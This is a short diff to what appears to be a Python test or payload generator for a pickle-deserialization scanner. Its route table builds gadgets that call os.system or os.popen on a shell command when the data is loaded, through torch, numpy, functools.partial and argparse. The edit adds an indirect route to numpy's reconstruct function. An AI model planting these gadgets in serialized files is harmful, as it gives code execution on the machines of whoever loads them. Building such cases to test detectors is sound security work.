@@ -113,7 +113,7 @@ ROUTES: dict[str, tuple[Callable[[str], object], str]] = {
     "rebuild": (lambda f: Call(torch._tensor._rebuild_from_type_v2, os.system, str, (shell(f),), {}),
                 "torch._tensor._rebuild_from_type_v2"),
     "numpy-load": (lambda f: Call(np.load, f), "numpy.load"),
-    "numpy-reconstruct": (lambda f: Call(np._core.multiarray._reconstruct, os.system, (0,), b"b"), "posix.system"),
+    "numpy-reconstruct": (lambda f: Call(np.empty(0).__reduce__()[0], os.system, (0,), b"b"), "posix.system"),
     "partial": (lambda f: Call(Call(functools.partial, os.system, shell(f))), "functools.partial"),
     "state": (lambda f: Call(argparse.Namespace, state=Call(os.system, shell(f))), "posix.system"),
     "popen": (lambda f: Call(os.popen, shell(f)), "os.popen"),
